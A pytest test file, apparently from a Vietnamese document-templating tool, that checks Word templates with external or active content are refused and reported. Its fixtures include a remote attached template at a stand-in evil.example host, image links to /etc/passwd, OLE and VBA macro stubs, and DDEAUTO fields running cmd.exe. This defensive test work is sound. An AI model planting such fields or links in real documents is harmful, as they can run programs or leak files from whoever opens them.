    edit_template(path, "{{ agency_mark }}</w:t></w:r>", "{{ agency_mark }}</w:t></w:r>" + xml, part=part)


def field(code_pieces: list) -> str:
    """A complex field whose code Word split over runs."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in code_pieces)
    return (f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            '<w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>')


def remote_attached_template(path: Path) -> None:
    add_parts(path, {"word/_rels/settings.xml.rels": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns='
        '"http://schemas.openxmlformats.org/package/2006/relationships">'
        + relation("rId1", "attachedTemplate", "http://evil.example/evil.dotm", external=True) + "</Relationships>")})
    edit_template(path, "</w:settings>", '<w:attachedTemplate r:id="rId1"/></w:settings>', part="word/settings.xml")


def linked_images(path: Path) -> None:
    add_relations(path, relation("rId90", "image", "http://evil.example/logo.png", external=True),
                  relation("rId91", "image", "file:///etc/passwd", external=True),
                  relation("rId92", "image", "\\\\may-chu\\chia-se\\logo.png", external=True))


def ole_object(path: Path) -> None:
    add_parts(path, {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + bytes(60)})
    add_content_type(path, f'<Override PartName="/word/embeddings/oleObject1.bin" ContentType="{CT}.oleObject"/>')
    add_relations(path, relation("rId93", "oleObject", "embeddings/oleObject1.bin"))
    after_agency_mark(path, '<w:r><w:object><o:OLEObject ProgID="Package" r:id="rId93"/></w:object></w:r>')


def macros(path: Path) -> None:
    add_parts(path, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(60)})
    add_content_type(path, '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>')
    edit_template(path, f"{CT}.wordprocessingml.document.main+xml",
                  "application/vnd.ms-word.document.macroEnabled.main+xml", part="[Content_Types].xml")
    add_relations(path, relation("rId94", "vbaProject", "vbaProject.bin", base=MS_REL))


def alt_chunk(path: Path) -> None:
    add_parts(path, {"word/afchunk.htm": b"<html><body>Chen vao</body></html>"})
    add_content_type(path, '<Default Extension="htm" ContentType="text/html"/>')
    add_relations(path, relation("rId95", "aFChunk", "afchunk.htm"))
    edit_template(path, "<w:sectPr", '<w:altChunk r:id="rId95"/><w:sectPr')


def svg_picture(path: Path) -> None:
    # an SVG is read as one by its content, whatever its name and declared type say
    add_parts(path, {"word/media/logo.png": (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">'
        '<image xlink:href="file:///etc/hostname" width="9" height="9"/><image href="http://evil.example/a.png"/>'
        '<rect width="9" height="9" style="fill: url(#inside)"/><image href="data:image/png;base64,AAAA"/>'
        '<image href="data:image/svg+xml,%3Csvg%20xmlns=%22http://www.w3.org/2000/svg%22%3E%3Cimage%20href=%22'
        'file:///etc/hostname%22/%3E%3C/svg%3E"/></svg>')})
    add_content_type(path, '<Default Extension="png" ContentType="image/png"/>')
    add_relations(path, relation("rId99", "image", "media/logo.png"))


def fields(path: Path) -> None:
    after_agency_mark(path, field([" INCLUDE", 'TEXT "http://evil.example/a.docx" ']))
    after_agency_mark(path, '<w:fldSimple w:instr=\'includepicture"http://evil.example/b.png"\'/>')
    after_agency_mark(path, '<w:fldSimple w:instr=\' LINK Excel.Sheet.8 "C:\\\\so-lieu.xls" "Sheet1" \'/>')
    edit_template(path, "<w:p><w:pPr/></w:p>", '<w:p><w:fldSimple w:instr=\' INCLUDEPICTURE "http://evil.example/x.png" '
                  '\\d \'/></w:p>', part="word/header1.xml")
    edit_template(path, " PAGE ", ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ', part="word/header2.xml")
    after_agency_mark(path, field([" dde ", 'cmd "/c calc"']))


HOSTILE = {
    "remote attached template": (remote_attached_template, [
        "word/_rels/settings.xml.rels: mẫu đính kèm (attachedTemplate) lấy từ bên ngoài: http://evil.example/evil.dotm"]),
    "linked images": (linked_images, [
        "word/_rels/document.xml.rels: ảnh liên kết lấy từ bên ngoài: http://evil.example/logo.png",
        "word/_rels/document.xml.rels: ảnh liên kết lấy từ bên ngoài: file:///etc/passwd",
        "word/_rels/document.xml.rels: ảnh liên kết lấy từ bên ngoài: \\\\may-chu\\chia-se\\logo.png"]),
    "OLE object": (ole_object, [
        f"word/embeddings/oleObject1.bin: đối tượng OLE nhúng ({CT}.oleObject)",
        "word/_rels/document.xml.rels: đối tượng OLE: embeddings/oleObject1.bin",
        "word/document.xml: đối tượng nhúng (OLE, w:object) Package"]),
    "macros": (macros, [
        "word/document.xml: tài liệu có macro (.docm) (application/vnd.ms-word.document.macroEnabled.main+xml)",
        "word/_rels/document.xml.rels: macro VBA: vbaProject.bin",
        "word/vbaProject.bin: macro VBA (application/vnd.ms-office.vbaProject)"]),
    "altChunk": (alt_chunk, [
        "word/_rels/document.xml.rels: nội dung chèn từ tệp khác (altChunk): afchunk.htm",
        "word/document.xml: nội dung chèn từ tệp khác (w:altChunk)"]),
    "SVG picture": (svg_picture, [
        "word/media/logo.png: ảnh SVG lấy nội dung từ bên ngoài: file:///etc/hostname",
        "word/media/logo.png: ảnh SVG lấy nội dung từ bên ngoài: http://evil.example/a.png",
        "word/media/logo.png: ảnh SVG lấy nội dung từ bên ngoài: data:image/svg+xml,... (ảnh SVG lồng bên trong)"]),
    "fields": (fields, [
        'word/document.xml: trường INCLUDEPICTURE (chèn ảnh từ tệp hay địa chỉ khác): '
        '«includepicture"http://evil.example/b.png"»',
        'word/document.xml: trường INCLUDETEXT (chèn văn bản từ tệp hay địa chỉ khác): '
        '«INCLUDETEXT "http://evil.example/a.docx"»',
        'word/document.xml: trường LINK (liên kết tới nội dung của tệp khác): «LINK Excel.Sheet.8 "C:\\\\so-lieu.xls" "Sheet1"»',
        'word/document.xml: trường DDE (lấy dữ liệu qua DDE (có thể chạy chương trình)): «dde cmd "/c calc"»',
        'word/header1.xml: trường INCLUDEPICTURE (chèn ảnh từ tệp hay địa chỉ khác): «INCLUDEPICTURE "http://evil.example/x.png" \\d»',
        "word/header2.xml: trường DDEAUTO (lấy dữ liệu qua DDE khi mở tệp (có thể chạy chương trình)): "
        '«DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"»']),
}


@pytest.mark.parametrize("build, pieces", HOSTILE.values(), ids=HOSTILE.keys())
def test_external_and_active_content_is_refused_when_rendering_each_piece_named(tmp_path, plan, build, pieces):
    build(copy_package_template(tmp_path))
    with pytest.raises(TemplateError) as error:
        Renderer([tmp_path]).render_bytes(plan)
    message = str(error.value)
    assert message.startswith(f"Mẫu 'doan/van-ban.docx' bị lỗi: tệp {tmp_path}/doan/van-ban.docx có nội dung "
                              "lấy từ bên ngoài hoặc nội dung chạy được"), message
    listed = [line[4:] for line in message.splitlines() if line.startswith("  - ")]
    assert sorted(listed) == sorted(pieces)
    assert message.endswith("lưu lại dạng .docx rồi kiểm tra bằng 'vanban template check'.")


@pytest.mark.parametrize("build, pieces", HOSTILE.values(), ids=HOSTILE.keys())
def test_template_check_reports_each_piece_of_external_and_active_content(tmp_path, build, pieces):
    path = copy_package_template(tmp_path)
    build(path)
    result = template_check(path)
    assert result.exit_code == 1, result.output
    for piece in pieces:
        assert any(line.startswith("[lỗi] ") and f"{piece}; vanban không dùng mẫu" in line
                   for line in result.output.splitlines()), (piece, result.output)


def test_a_refusal_lists_twenty_pieces_and_counts_the_others_which_template_check_lists_all(tmp_path, plan):
    path = copy_package_template(tmp_path)
    for number in range(25):
        after_agency_mark(path, f'<w:fldSimple w:instr=\' INCLUDETEXT "http://evil.example/{number}.docx" \'/>')
    with pytest.raises(TemplateError) as error:
        Renderer([tmp_path]).render_bytes(plan)
    listed = [line for line in str(error.value).splitlines() if line.startswith("  - ")]
    assert len(listed) == 21 and listed[-1] == "  - và 5 chỗ khác (xem 'vanban template check')"
    assert template_check(path).output.count("trường INCLUDETEXT") == 25


def test_template_check_points_at_the_paragraph_of_a_field_in_the_body(tmp_path):
    path = copy_package_template(tmp_path)
    fields(path)
    result = template_check(path)
    assert "[lỗi] đoạn 7 «{{ agency_mark }}xx»: word/document.xml: trường INCLUDETEXT" in result.output


def test_a_logo_in_svg_with_a_doctype_is_a_picture_like_any_other(tmp_path, plan):
    # Word keeps the SVG file it was given; Illustrator writes a DOCTYPE in it
    path = copy_package_template(tmp_path)
    add_parts(path, {"word/media/logo.svg": (
        '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg" width="9" '
        'height="9"><rect width="9" height="9" fill="red"/></svg>')})
    add_content_type(path, '<Default Extension="svg" ContentType="image/svg+xml"/>')
    add_relations(path, relation("rId99", "image", "media/logo.svg"))
    assert template_check(path).exit_code == 0
    Renderer([tmp_path]).render_bytes(plan)


def test_a_relationship_to_a_part_the_template_lacks_is_named_alike_by_render_and_template_check(tmp_path, plan):
    path = copy_package_template(tmp_path)
    add_relations(path, relation("rId99", "image", "http://evil.example/a.png"))  # not marked External
    said = (f"tệp {path}: word/_rels/document.xml.rels trỏ tới phần http://evil.example/a.png, phần này không có "
            "trong tệp; hãy mở mẫu trong Word và lưu lại dạng .docx.")
    with pytest.raises(TemplateError) as error:
        Renderer([tmp_path]).render_bytes(plan)
    assert str(error.value).endswith(said)
    result = template_check(path)
    assert result.exit_code == 1 and said in result.output, result.output


def test_a_relationship_part_named_in_capitals_is_read_as_one(tmp_path):
    # a part's name is the same whatever its case, for Word as for the standard
    path = copy_package_template(tmp_path)
    add_parts(path, {"word/_rels/settings.xml.RELS": (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        'relationships">' + relation("rId1", "attachedTemplate", "http://evil.example/a.dotm", external=True)
        + "</Relationships>")})
    assert ("word/_rels/settings.xml.RELS: mẫu đính kèm (attachedTemplate) lấy từ bên ngoài: http://evil.example/a.dotm"
            in template_check(path).output)


def test_hyperlinks_to_web_and_mail_addresses_are_kept(tmp_path, plan):
    path = copy_package_template(tmp_path)
    add_relations(path, relation("rId96", "hyperlink", "https://doanthanhnien.vn/", external=True),
                  relation("rId97", "hyperlink", "mailto:vp@tinhdoan.example", external=True))
    after_agency_mark(path, '<w:hyperlink r:id="rId96"><w:r><w:t>trang</w:t></w:r></w:hyperlink>')
    assert template_check(path).exit_code == 0
    assert "***trang" in text_lines(open_docx(Renderer([tmp_path]).render_bytes(plan)))
    add_relations(path, relation("rId98", "hyperlink", "file:///C:/Windows/System32/calc.exe", external=True))
    assert "siêu liên kết lấy từ bên ngoài: file:///C:/Windows/System32/calc.exe" in template_check(path).output


# what rendering refuses only when it runs: the model's own methods and renderer internals
FOUND_ONLY_BY_RENDERING = {"{{ document.sections() }}", "{{ document.json_schema() }}", "{{ body[0].runs.xml }}"}


@pytest.mark.parametrize("tag", [tag for tag in CHANGING if tag not in FOUND_ONLY_BY_RENDERING])
def test_template_check_reports_what_would_change_or_reach_into_the_document_before_any_render(tmp_path, tag):
    from vanban._template_check import check_template

    path = copy_package_template(tmp_path)
    edit_template(path, "{{ agency_mark }}", "{{ agency_mark }}" + tag)
    findings = [str(f) for f in check_template(path, vanban.document_types()["ke-hoach"])]
    assert any(f.startswith("[lỗi] đoạn 7 ") and ("khi tạo văn bản vanban" in f) for f in findings), findings


def test_template_check_says_which_kinds_a_changing_method_changes(tmp_path):
    from vanban._template_check import check_template

    path = copy_package_template(tmp_path)
    edit_template(path, "{{ agency_mark }}", "{{ agency_mark }}{{ document.recipients.clear() }}")
    findings = [str(f) for f in check_template(path, vanban.document_types()["ke-hoach"])]
    assert findings == ["[lỗi] đoạn 7 «{{ agency_mark }}{{ document.recipients.clear() }}»: '.clear(...)' thay đổi "
                        "dữ liệu mẫu nhận (từ điển, danh sách, tập hợp); khi tạo văn bản vanban từ chối mẫu này. "
                        "Hãy bỏ '.clear(...)' khỏi mẫu: mẫu chỉ đọc các giá trị."]
